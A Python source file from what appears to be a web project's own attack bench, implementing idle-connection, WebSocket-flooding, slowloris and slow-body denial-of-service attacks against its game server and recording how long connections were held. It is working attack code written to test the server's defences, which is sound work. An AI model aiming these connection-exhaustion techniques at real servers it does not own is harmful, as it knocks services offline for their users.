"""The attacks by connections held open (idle, slowloris, slow-body): raw TCP connections
(Held) and WebSockets opened by the thousand and held, counting how many the server let be held
and for how long; pegrace.web.attacks says each in a line."""

from __future__ import annotations

import asyncio
import functools
import time
from typing import Any, cast

from pegrace.web.attackbench.attack import Attack
from pegrace.web.attackbench.clients import Refused, Socket, close_reason
from pegrace.web.loadbench import HOST, percentile

REOPEN = 100  # raw connections opened again a second, at most, as the server closes them
SLOW_BODIES = 60  # slow-body: connections, at most
SLOW_BODY_BYTES = 60_000  # the body each promises (under the server's 64 KiB)
SLOW_BODY_SECONDS = 3.0  # and a byte of it every so often


class Held(asyncio.Protocol):
    """A raw TCP connection the attack holds open (idle, slowloris, slow-body), noticing when
    the server answers or closes it."""

    def __init__(self, attack: ConnectionsAttack, kind: str, port: int) -> None:
        self.attack, self.kind, self.port = attack, kind, port
        self.transport: asyncio.Transport | None = None
        self.opened = time.perf_counter()
        self.answer = b""

    def connection_made(self, transport: asyncio.BaseTransport) -> None:
        self.transport = cast(asyncio.Transport, transport)
        self.opened = time.perf_counter()
        self.attack.held.add(self)

    def data_received(self, data: bytes) -> None:
        if not self.answer:
            self.answer = data[:12]

    def connection_lost(self, exc: Exception | None) -> None:
        self.transport = None
        attack = self.attack
        attack.held.discard(self)
        if attack.stopping:
            return
        lived = time.perf_counter() - self.opened
        attack.lifetimes.append(lived)
        status = self.answer[9:12].decode(errors="replace") if self.answer else ""
        when = "closed at once" if lived < 1.0 else "closed later"
        answer = f"HTTP {status}" if status else "no answer"
        attack.counts.refused[f"{self.kind}: {when} ({answer})"] += 1

    def write(self, data: bytes) -> None:
        if self.transport is not None and not self.transport.is_closing():
            self.transport.write(data)


class ConnectionsAttack(Attack):
    """An attack by connections held open: counts them and how long the server let them be."""

    def __init__(self, ports: list[int], seed: int, connections: int, local: str) -> None:
        super().__init__(ports, seed, connections, local)
        self.held: set[Held] = set()
        self.lifetimes: list[float] = []
        self.peak = 0  # raw connections held a second or more, at most (sampled)

    async def connect(self, kind: str) -> Held | None:
        """A raw TCP connection (counted in ``sent``), None where it was not made."""
        counts, loop, port = self.counts, asyncio.get_running_loop(), self.next_port()
        counts.sent += 1
        try:
            async with asyncio.timeout(5.0):
                _, held = await loop.create_connection(
                    lambda: Held(self, kind, port), HOST, port, local_addr=(self.local, 0)
                )
        except TimeoutError:
            counts.refused[f"{kind}: connect timed out"] += 1
            return None
        except ConnectionRefusedError:
            counts.refused[f"{kind}: connection refused"] += 1
            return None
        except OSError as err:
            counts.errors[f"{kind}: {err.strerror or type(err).__name__}"] += 1
            return None
        return held

    def start(self, held: Held) -> bytes:
        """What a connection of ``held``'s kind sends first (nothing, here)."""
        return b""

    async def open_many(self, kinds: list[str], total: int) -> None:
        """Open ``total`` raw connections, ``kinds`` in turn, 200 at a time, each sending its
        start; then, once a second, open again (at most REOPEN) as many as the server has
        closed."""
        opened = 0
        while True:
            held = sum(1 for h in self.held if h.kind in kinds)
            batch = min(200 if opened < total else REOPEN, total - held)
            made = await asyncio.gather(
                *(self.connect(kinds[(opened + i) % len(kinds)]) for i in range(batch))
            )
            for connection in made:
                if connection is not None:
                    connection.write(self.start(connection))
            opened += batch
            if any(k.endswith("Too many open files") for k in self.counts.errors):
                return  # this process cannot hold more
            await asyncio.sleep(0.05 if opened < total else 1.0)
            now = time.perf_counter()
            self.peak = max(self.peak, sum(1 for h in self.held if now - h.opened >= 1.0))

    def close(self) -> None:
        super().close()
        for held in list(self.held):
            if held.transport is not None:
                held.transport.abort()

    def result(self) -> dict[str, Any]:
        # held: open at the stop, or closed by the server only after a second or more
        later = [s for s in self.lifetimes if s >= 1.0]
        self.counts.ok += len(self.held) + len(later)
        self.counts.notes.update(
            peak_held=self.peak,
            held_at_stop=len(self.held) + len(self.sockets),
            # of them, answered (a 408, say) but left open by the server
            answered_but_open=sum(1 for held in self.held if held.answer),
            closed_at_once=len(self.lifetimes) - len(later),
            closed_later=len(later),
            closed_later_after_s=None
            if not later
            else {"median": round(percentile(later, 0.5), 1), "max": round(max(later), 1)},
        )
        return super().result()


class IdleAttack(ConnectionsAttack):
    async def setup(self) -> None:
        game = await self.new_game({"red": "human", "green": "human"})
        self.path = f"/ws/{game['id']}"
        self.counts.notes.update(websockets_held_peak=0)

    async def run(self) -> None:
        turned_away = asyncio.Event()
        await asyncio.gather(self.websockets(turned_away), self.raw(turned_away))

    async def websockets(self, turned_away: asyncio.Event) -> None:
        """Open WebSockets, 50 at a time (every other one says hello as a watcher, then
        nothing), until the server refuses one; then one a second, holding all that stay open."""
        while len(self.sockets) < self.connections:
            batch = 1 if turned_away.is_set() else 50
            opened = await asyncio.gather(*(self.websocket(n % 2 == 0) for n in range(batch)))
            await asyncio.sleep(0.5)  # a refusal closes at once, after an error
            for socket in opened:
                if socket is None:
                    turned_away.set()
                elif socket.closed.done():
                    refused, what = close_reason(socket.closed.result())
                    (self.counts.refused if refused else self.counts.errors)[
                        f"websocket: {what}"
                    ] += 1
                    turned_away.set()
                else:
                    self.counts.ok += 1
                    self.sockets.add(socket)
                    socket.closed.add_done_callback(functools.partial(self.lost, socket))
            peak = max(self.counts.notes["websockets_held_peak"], len(self.sockets))
            self.counts.notes["websockets_held_peak"] = peak
            if turned_away.is_set():
                await asyncio.sleep(0.5)

    async def websocket(self, hello: bool) -> Socket | None:
        counts = self.counts
        counts.sent += 1
        try:
            socket = await Socket.open(self.next_port(), self.path, self.local)
        except (Refused, OSError, TimeoutError) as err:
            what = str(err) if isinstance(err, Refused) else type(err).__name__
            (counts.refused if isinstance(err, Refused) else counts.errors)[
                f"websocket: {what}"
            ] += 1
            return None
        if hello:
            socket.send(b'{"type":"hello","tokens":[]}')
        return socket

    def lost(self, socket: Socket, closed: object) -> None:
        """A held socket the server closed: held off too, whatever its close code."""
        self.sockets.discard(socket)
        if not self.stopping:
            _, what = close_reason(socket.close_code or 1006)
            self.counts.refused[f"websocket held: {what}"] += 1

    async def raw(self, turned_away: asyncio.Event) -> None:
        """Once the WebSockets are refused, idle raw TCP connections too."""
        await turned_away.wait()
        await self.open_many(["idle tcp"], self.connections)
        await asyncio.Event().wait()


class SlowlorisAttack(ConnectionsAttack):
    KINDS = ("half line", "headers", "nothing", "trickled body")

    async def run(self) -> None:
        trickle = asyncio.create_task(self.trickle())
        try:
            await self.open_many(list(self.KINDS), self.connections)
            await trickle
        finally:
            trickle.cancel()

    def start(self, held: Held) -> bytes:
        """What a connection of ``held``'s kind sends first."""
        host = f"{HOST}:{held.port}"
        if held.kind == "half line":
            return b"GET /api/cat"
        if held.kind == "headers":
            return f"GET /api/catalog HTTP/1.1\r\nHost: {host}\r\nUser-Agent: x\r\n".encode()
        if held.kind == "trickled body":
            return post_head(held.port, "/api/games", 4096)
        return b""

    async def trickle(self) -> None:
        """A byte a second on every trickled body; a header line every 10 s on "headers"."""
        tick = 0
        while True:
            await asyncio.sleep(1.0)
            tick += 1
            for held in list(self.held):
                if held.kind == "trickled body":
                    held.write(b" ")
                elif held.kind == "headers" and tick % 10 == 0:
                    held.write(f"X-{tick}: {tick}\r\n".encode())


def post_head(port: int, path: str, length: int) -> bytes:
    """A JSON POST's request line and headers, its body of ``length`` bytes yet to come."""
    return (
        f"POST {path} HTTP/1.1\r\nHost: {HOST}:{port}\r\nContent-Type: application/json\r\n"
        f"Content-Length: {length}\r\n\r\n"
    ).encode()


class SlowBodyAttack(ConnectionsAttack):
    """POST bodies that promise SLOW_BODY_BYTES and come a byte every SLOW_BODY_SECONDS, on
    SLOW_BODIES connections (under the 64 one address may hold: what turns them away is the
    body's rate, not the cap), each opened again once the server closes it."""

    KINDS = ("slow body /api/games", "slow body /api/qr")

    def start(self, held: Held) -> bytes:
        path = held.kind.removeprefix("slow body ")
        return post_head(held.port, path, SLOW_BODY_BYTES) + b"{"

    async def run(self) -> None:
        drip = asyncio.create_task(self.drip())
        try:
            await self.open_many(list(self.KINDS), min(self.connections, SLOW_BODIES))
        finally:
            drip.cancel()

    async def drip(self) -> None:
        """A byte on every connection every SLOW_BODY_SECONDS."""
        while True:
            await asyncio.sleep(SLOW_BODY_SECONDS)
            for held in list(self.held):
                held.write(b" ")
